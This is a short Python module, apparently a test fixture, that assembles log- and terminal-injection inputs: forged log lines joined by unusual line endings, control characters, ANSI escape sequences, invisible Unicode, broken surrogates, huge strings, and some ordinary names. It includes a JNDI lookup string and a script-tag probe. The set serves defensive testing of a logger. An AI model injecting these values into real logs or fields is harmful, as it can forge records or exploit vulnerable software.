"""What people put into names and chats to have a log or a terminal do something: more than 200 texts."""

from __future__ import annotations

from itertools import product

__all__ = ["PAYLOADS"]

FORGED = [
    '{"time":"2026-01-01T00:00:00.000Z","level":"critical","logger":"pelton","message":"forged"}',
    "2026-01-01 00:00:00.000 ERROR   pelton: forged",
    'x"}',
    "%s%n%(message)s%d",
    "${jndi:ldap://example.com/a}",
    "<script>alert(1)</script>",
    "Traceback (most recent call last):",
    "\\n forged",
]
LINE_ENDS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
CONTROLS = [chr(code) for code in [*range(32), *range(127, 160)]]
SEQUENCES = [
    "\x1b[2J\x1b[H",
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://example.com\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[1A\x1b[2K",
    "\x1bc",
    "\x9b31m",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x08\x08\x08\x08",
]
SINGLE = (0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x2800, 0x3164, 0xFEFF, 0xFFA0, 0xFE0F, 0xE0001)
SPACES = (0xA0, 0x2000, 0x202F, 0x3000, 0xE000, 0xFFFE, 0x10FFFF, 0xE0041, 0xE0100)
MARKS = [*range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x206A)]
UNSEEN = [chr(code) for code in (*SINGLE, *MARKS, *SPACES)]
BROKEN = ["\ud800", "\udfff", "\ud83d", "a\udc80b"]
LONG = ["a" * 10_000, "ä" * 10_000, "\n" * 10_000, "\U0001f600" * 10_000, "\u202e" * 10_000, "\x1b[2J" * 5_000]
HONEST = ["", " ", "Zoë", "名前", "Πελτον", "عمر", "\U0001f600", "a'b\"c\\d"]

PAYLOADS = [
    *(f"eve{end}{line}" for end, line in product(LINE_ENDS, FORGED)),
    *(f"a{character}b" for character in CONTROLS + UNSEEN),
    *FORGED,
    *SEQUENCES,
    *BROKEN,
    *LONG,
    *HONEST,
]
